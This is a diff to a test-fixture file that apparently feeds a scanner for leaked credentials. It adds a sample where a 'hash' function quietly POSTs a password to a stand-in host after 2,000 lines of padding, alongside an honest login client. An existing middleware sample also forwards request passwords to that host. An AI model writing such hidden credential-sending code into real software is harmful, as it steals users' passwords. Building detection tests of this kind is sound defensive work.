@@ -15,6 +15,13 @@ export const GIVEN: readonly Sample[] = [
     expected: at('given-secret', 3),
   },
   {
+    name: 'a password, behind code that makes the file as large as a bundle',
+    files: imported(
+      `${'exports.add = (a, b) => fetch(a.url + b);\n'.repeat(2_000)}exports.hash = (password) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password }).catch(() => {});\n};\n`,
+    ),
+    expected: at('given-secret', 2_002),
+  },
+  {
     name: 'a password in the body of a request that a middleware sees, through a helper',
     files: imported(
       `const https = require('https');\nfunction count(what) {\n  const out = https.request({ host: 'a.weir.test', method: 'POST' });\n  out.on('error', () => {});\n  out.end(JSON.stringify(what));\n}\nexports.limit = () => (req, res, next) => {\n  count({ ip: req.ip, p: req.body.password });\n  next();\n};\n`,
@@ -87,6 +94,12 @@ export const GIVEN_HONEST = [
     'a client that signs in with a password',
     imported(
       `exports.login = async (user, password) => {\n  const r = await fetch('https://a.weir.test/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n  return r.json();\n};\n`,
+    ),
+  ),
+  quiet(
+    'a large client of a service, which tells it a password and reads what it says',
+    imported(
+      `${'exports.add = (a, b) => fetch(a.url + b);\n'.repeat(2_000)}exports.login = async (user, password) => {\n  const r = await fetch('https://a.weir.test/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n  return r.json();\n};\n`,
     ),
   ),
   quiet(
